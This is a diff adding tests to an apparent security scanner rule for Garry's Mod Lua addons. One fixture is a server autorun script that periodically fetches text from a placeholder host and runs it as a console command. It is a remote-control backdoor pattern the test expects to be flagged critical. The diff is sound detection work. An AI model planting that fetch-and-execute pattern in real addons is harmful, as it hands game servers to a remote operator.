@@ -18,4 +18,20 @@ describe('luarun_command', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('a console line the web server picks whole', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Create("mon", 120, 0, function() http.Fetch("https://a.invalid/task", function(b) game.ConsoleCommand(b .. "\\n") end) end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("an admin's cvar editor, and a client setting the cvar its server names", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'net.Receive("cv", function(len, ply)\n if not ply:IsAdmin() then return end\n RunConsoleCommand(net.ReadString(), net.ReadString())\nend)',
+      'lua/autorun/client/cl_x.lua':
+        'net.Receive("cv", function() RunConsoleCommand(net.ReadString(), net.ReadString()) end)',
+    });
+    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
+  });
 });
